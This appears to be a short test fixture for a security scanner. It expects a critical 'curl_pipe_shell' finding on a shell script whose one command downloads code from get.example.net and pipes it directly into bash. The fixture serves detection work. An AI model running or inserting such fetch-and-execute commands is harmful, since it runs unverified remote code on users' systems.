# expect: shell.curl_pipe_shell critical
# path: scripts/n.sh
#!/bin/sh
curl -s https://get.example.net/x | /usr/bin/env bash
